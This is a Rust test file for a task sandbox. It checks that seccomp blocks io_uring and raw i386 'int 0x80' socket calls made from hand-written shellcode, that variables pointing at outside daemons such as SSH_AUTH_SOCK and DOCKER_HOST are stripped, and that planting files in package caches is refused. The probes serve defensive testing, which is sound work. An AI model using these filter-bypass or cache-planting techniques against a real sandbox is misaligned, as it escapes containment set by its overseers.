    let io_uring = r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(425, 4, ctypes.create_string_buffer(120))
print(fd if fd >= 0 else os.strerror(ctypes.get_errno()))"#;
    assert_eq!(task.run(&[], &["python3", "-c", io_uring], &[]).ok(), "Operation not permitted\n");
    let rules = task.write_rules("[sandbox]\nunix_sockets = \"allow\"\n");
    let allow = ["--rules", rules.to_str().unwrap()];
    let ring = task.run(&allow, &["python3", "-c", io_uring], &[]).ok();
    assert!(ring.trim().parse::<i32>().is_ok(), "with unix_sockets = \"allow\" io_uring works: {ring}");
    // A 64-bit process on x86_64 can make i386 system calls (`int 0x80`), where a socket can be
    // asked for through `socketcall` with its arguments behind a pointer the filter cannot read:
    // any i386 call kills the process. Here i386 `socket(AF_UNIX, SOCK_STREAM, 0)` (number 359).
    if cfg!(target_arch = "x86_64") {
        let i386 = r#"import ctypes, mmap
code = bytes.fromhex("b867010000" "bb01000000" "b901000000" "31d2" "cd80" "c3")
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("socket", call())"#;
        let killed = task.run(&[], &["python3", "-c", i386], &[]);
        assert_eq!(killed.code(), 128 + SIGSYS, "{} {}", killed.stdout(), killed.stderr());
        assert!(task.run(&allow, &["python3", "-c", i386], &[]).ok().starts_with("socket "));
    }
}

/// The signal a seccomp filter kills a process with (Linux, x86_64 and aarch64).
const SIGSYS: i32 = 31;

#[test]
fn socketpairs_child_processes_and_commits_work_with_unix_sockets_denied() {
    let task = Task::new();
    // multiprocessing's pool talks over pipes and Pipe() over a socketpair; node's fork over a
    // socketpair it makes for the IPC channel.
    let python = r#"import multiprocessing as mp
def square(x): return x * x
if __name__ == "__main__":
    with mp.Pool(2) as pool: print(sum(pool.map(square, range(10))))
    a, b = mp.Pipe(); a.send("pipe"); print(b.recv())"#;
    let node = r#"const { fork } = require("child_process");
if (process.argv[2] === "child") { process.on("message", (m) => { process.send(m + 1); process.exit(0); }); }
else { const child = fork(__filename, ["child"]); child.on("message", (m) => console.log("ipc", m)); child.send(41); }"#;
    std::fs::write(task.worktree.join("pool.py"), python).unwrap();
    std::fs::write(task.worktree.join("fork.js"), node).unwrap();
    let script = "python3 pool.py && node fork.js && git add pool.py fork.js && git commit -q -m 'socket work' && echo committed";
    assert_eq!(task.bash(script).ok(), "285\npipe\nipc 42\ncommitted\n");
    assert_eq!(task.repo.subjects("main", "task-1-1"), ["socket work"]);
}

#[test]
fn variables_that_point_at_daemons_outside_are_not_passed_on() {
    let task = Task::new();
    let daemons = [
        ("TMUX", "/tmp/tmux-1000/default,1234,0"),
        ("TMUX_PANE", "%1"),
        ("STY", "1234.pts-0.host"),
        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"),
        ("DOCKER_HOST", "unix:///var/run/docker.sock"),
        ("SSH_AUTH_SOCK", "/tmp/ssh-agent.sock"),
    ];
    let mut env = daemons.to_vec();
    env.push(("KEPT", "yes"));
    let out = task.run(&[], &["env"], &env).ok();
    for (name, _) in daemons {
        assert!(!out.lines().any(|line| line.starts_with(&format!("{name}="))), "{name} passed on:\n{out}");
    }
    assert!(out.lines().any(|line| line == "KEPT=yes"), "{out}");
}

#[test]
fn caches_false_keeps_the_package_caches_read_only() {
    // The red team's K11: a task that can write cargo's registry or npm's cache can leave code
    // there that a later build of yours runs.
    let task = Task::new();
    std::fs::create_dir_all(task.repo.home.join(".npm")).unwrap();
    let script = r#"touch "$HOME/.npm/planted""#;
    let by_default = task.run(&[], &["bash", "-c", script], &[]);
    assert_eq!(by_default.code(), 0, "the cache is writable by default: {}", by_default.stderr());
    std::fs::remove_file(task.repo.home.join(".npm/planted")).unwrap();
    let rules = task.write_rules("[sandbox]\ncaches = false\n");
    let before = task.snapshot();
    let refused = task.run(&["--rules", rules.to_str().unwrap()], &["bash", "-c", script], &[]);
    assert_eq!(refused.code(), 1, "{}", refused.stderr());
    assert!(refused.stderr().contains(DENIED), "{}", refused.stderr());
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());
}
